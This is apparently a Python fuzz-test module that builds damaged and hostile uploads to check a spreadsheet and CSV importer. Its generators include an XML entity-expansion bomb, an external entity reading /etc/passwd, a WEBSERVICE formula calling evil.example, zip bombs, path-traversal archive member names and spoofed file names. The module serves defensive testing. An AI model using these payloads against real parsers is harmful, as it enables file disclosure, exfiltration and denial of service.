"""Files that nobody should be able to do harm with: archives, sheets and texts, broken in every way we thought of."""

from __future__ import annotations

import io
import random
import re
import struct
import warnings
import zipfile
from collections.abc import Callable

from tests.exchange.test_damaged import BYTES_DAMAGE, JUNK, PEOPLE, POSTS, damaged_csv, damaged_workbook
from tests.exchange.test_reading import workbook

#: The name and the bytes of each file of one upload.
Upload = list[tuple[str, bytes]]

BOMB = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
NUMBERS = (
    "1e999",
    "-1e999",
    "NaN",
    "inf",
    "1e15",
    "-1",
    "99999999999999999999",
    "0x10",
    "",
    "1.7976931348623157e308",
    "²",
)
SHEET_NAMES = ("Rows", "a" * 31, "\u202eRows", "R&D", "Blätter", "📈", "CON", "leaders", "positions", "nominations")
WRITTEN_AS = ("utf-7", "utf-16", "utf-16-le", "utf-32", "cp037", "shift_jis", "koi8-r", "utf-8-sig", "utf-8")


def a_workbook(dice: random.Random) -> bytes:
    text = dice.choice((PEOPLE, POSTS))
    rows: list[list[object]] = [list(line.split(";")) for line in text.splitlines()]
    return workbook((dice.choice(SHEET_NAMES), rows))


def rewritten(data: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    """The archive with each part as ``change`` wants it; a part that is None is left out."""
    packed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as new:
        for member in old.infolist():
            content = change(member.filename, old.read(member))
            if content is not None:
                new.writestr(member.filename, content)
    return packed.getvalue()


def with_entities(dice: random.Random) -> Upload:
    """XML that grows without end, or that asks for a file of the machine."""
    part = dice.choice(("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml", "[Content_Types].xml"))
    head = dice.choice((BOMB + "]>", OUTSIDE))

    def change(name: str, content: bytes) -> bytes:
        if name != part:
            return content
        text = re.sub(r"<\?xml[^>]*\?>", "", content.decode())
        entity = "&i;" if head.startswith(BOMB) else "&x;"
        return (head + re.sub(r"(<t[^>]*>)[^<]*", rf"\g<1>{entity}", text, count=3)).encode()

    return [("rows.xlsx", rewritten(a_workbook(dice), change))]


def with_strange_cells(dice: random.Random) -> Upload:
    """Numbers that are none, places that no sheet has, strings that are not there."""
    kind = dice.randrange(7)

    def change(name: str, content: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return content
        text = content.decode()
        if kind == 0:
            text = re.sub(r"<v>[^<]*</v>", lambda _: f"<v>{dice.choice(NUMBERS)}</v>", text)
        elif kind == 1:
            text = text.replace(' t="s"', dice.choice(("", ' t="b"', ' t="e"', ' t="d"', ' t="str"', ' t="nonsense"')))
        elif kind == 2:
            far = dice.choice(("XFD1048576", "A1048577", "ZZZ9", "A0", "A-1", "1A", "", "A99999999999"))
            text = text.replace(
                "</sheetData>",
                f'<row r="{dice.choice(("1048576", "0", "x"))}"><c r="{far}"><v>1</v></c></row></sheetData>',
            )
        elif kind == 3:
            text = text.replace("<v>", "<f>SUM(A1:A9)+WEBSERVICE(&quot;http://evil.example&quot;)</f><v>", 5)
        elif kind == 4:
            text = text.replace(
                "</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="A1:E1"/></mergeCells>'
            )
        elif kind == 5:
            text = re.sub(
                r'<dimension ref="[^"]*"/>', f'<dimension ref="A1:{dice.choice(("XFD1048576", "A0", "?"))}"/>', text
            )
        else:
            text = text.replace("</sheetData>", "<row>" * dice.choice((1, 1_000, 50_000)))
        return text.encode()

    return [("rows.xlsx", rewritten(a_workbook(dice), change))]


def with_missing_parts(dice: random.Random) -> Upload:
    """A part is gone, empty, or another one's."""
    data = a_workbook(dice)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        part = dice.choice(archive.namelist())
    other = dice.choice((None, b"", b"<a/>", b"\x00" * 100, b"not xml at all"))
    return [("rows.xlsx", rewritten(data, lambda name, content: other if name == part else content))]


def a_bomb(dice: random.Random) -> Upload:
    """An archive that unpacks to far more than it weighs, or into far more parts."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        if dice.random() < 0.5:
            archive.writestr(
                dice.choice(("leaders.csv", "[Content_Types].xml")), b"0" * dice.choice((5_000_000, 30_000_000))
            )
        else:
            for number in range(dice.choice((1_001, 3_000))):
                archive.writestr(f"{number}.csv", b"a,b\n1,2\n")
    return [("rows.zip", packed.getvalue())]


def a_lying_archive(dice: random.Random) -> Upload:
    """An archive whose directory says something else than its parts: sizes, methods, names, a password."""
    data = bytearray(a_workbook(dice))
    at = data.find(b"PK\x01\x02", dice.randrange(len(data) // 2))
    if at >= 0:
        offset = dice.choice((8, 10, 16, 20, 24, 28, 42))
        data[at + offset : at + offset + 2] = struct.pack(
            "<H", dice.choice((0, 1, 9, 99, 0xFFFF, dice.randrange(65_536)))
        )
    return [("rows.xlsx", bytes(data))]


def strange_members(dice: random.Random) -> Upload:
    """A zip of CSV files whose names lead elsewhere, repeat, or cannot be seen."""
    packed = io.BytesIO()
    names = (
        "../../leaders.csv",
        "/etc/leaders.csv",
        "leaders.csv",
        "LEADERS.CSV",
        "a/b/leaders.csv",
        "\u202ex.csv",
        ".csv",
    )
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(packed, "w") as archive:  # of a name that repeats
        for _ in range(dice.randrange(1, 6)):
            content = dice.choice(("leader_id,name\nx,X\n", PEOPLE, "", "\x00", '"', "a,b\n"))
            archive.writestr(zipfile.ZipInfo(dice.choice(names)), content)
    return [("rows.zip", packed.getvalue())]


def wrongly_written(dice: random.Random) -> Upload:
    """Text in an encoding that nobody told, with a byte too many, or with zero bytes in it."""
    text = dice.choice((PEOPLE, POSTS)).replace(
        "Leader", dice.choice(("Leader", "Ångström", "Ωmega", "領袖", "\ud7ff"))
    )
    data = text.encode(dice.choice(WRITTEN_AS), "replace")
    data = dice.choice(
        (data, data[:-1], b"\xef\xbb\xbf" * 2 + data, b"\xff\xfe" + data, data.replace(b";", b"\x00", 3))
    )
    return [("rows.csv", data)]


def too_much(dice: random.Random) -> Upload:
    """One limit passed: cells, columns, rows, or the separator that the file names."""
    rows = {
        0: "id;Name\n1;" + "x" * dice.choice((2_001, 40_000, 200_000)) + "\n",
        1: ";".join(f"c{n}" for n in range(dice.choice((201, 20_000)))) + "\n1\n",
        2: "id;Name\n" + "1;a\n" * dice.choice((20_001, 60_000)),
        3: f"sep={dice.choice(('', chr(0x1F71C), chr(34), chr(10), 'ab'))}\n{PEOPLE}",
        4: 'id;Name\n1;"never closed\n' * 50,
        5: "\r".join(PEOPLE.splitlines()),
        6: "id;id;id;Name;Name\n" + "1;2;3;4;5\n" * 3,
        7: ";;;;\n" * 500 + PEOPLE,
        8: "\ufeff",
    }[dice.randrange(9)]
    return [("rows.csv", rows.encode())]


def not_what_it_says(dice: random.Random) -> Upload:
    """Another kind of file under the name of a table."""
    heads = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"%PDF-1.7\n",
        b"\x89PNG\r\n\x1a\n",
        b"\x1f\x8b\x08",
        b"PK\x05\x06",
        b"PK\x03\x04",
        b"{",
    )
    return [
        (
            dice.choice(("rows.xlsx", "rows.csv", "rows.zip", "..", "", "\u202excsv.exe")),
            dice.choice(heads) + dice.randbytes(200),
        )
    ]


def several(dice: random.Random) -> Upload:
    """Files of several kinds at once, some of them broken."""
    return [
        file
        for _ in range(dice.randrange(2, 5))
        for file in dice.choice((damaged_csv, wrongly_written, not_what_it_says))(dice)
    ]


def junk_in_cells(dice: random.Random) -> Upload:
    """A bundle in which any cell may be anything."""
    tables = {
        "leaders": "leader_id,name,function,risk_of_loss,internal\na,Ann,Sales,low,yes\nb,Bob,Sales,,no\n",
        "positions": "position_id,title,reports_to,incumbent_id,interim_id,key,importance\n"
        "x,Head,,a,,yes,1\ny,Seat,x,,b,no,2\n",
        "nominations": "position_id,leader_id,readiness,rank,emergency\nx,b,ready_now,1,no\ny,a,18,,yes\n",
    }
    upload = []
    for name, text in tables.items():
        rows = [line.split(",") for line in text.splitlines()]
        for _ in range(dice.randrange(0, 4)):
            row = dice.choice(rows if dice.random() < 0.2 else rows[1:])
            row[dice.randrange(len(row))] = (
                dice.choice((*JUNK, "x", "y", "a", "b")).replace(",", ";").replace('"', "''")
            )
        upload.append((f"{name}.csv", "\n".join(",".join(row) for row in rows).encode()))
    if dice.random() < 0.2:
        at = dice.randrange(3)
        upload[at] = (upload[at][0], dice.choice(BYTES_DAMAGE)(upload[at][1], dice))
    return upload


KINDS: tuple[Callable[[random.Random], Upload], ...] = (
    damaged_csv,
    damaged_workbook,
    with_entities,
    with_strange_cells,
    with_missing_parts,
    a_bomb,
    a_lying_archive,
    strange_members,
    wrongly_written,
    too_much,
    not_what_it_says,
    several,
    junk_in_cells,
)


def a_damaged_upload(seed: str) -> tuple[str, Upload]:
    """What was done to it, and the files; the same for the same seed."""
    dice = random.Random(seed)
    kind = dice.choice(KINDS)
    return kind.__name__, kind(dice)
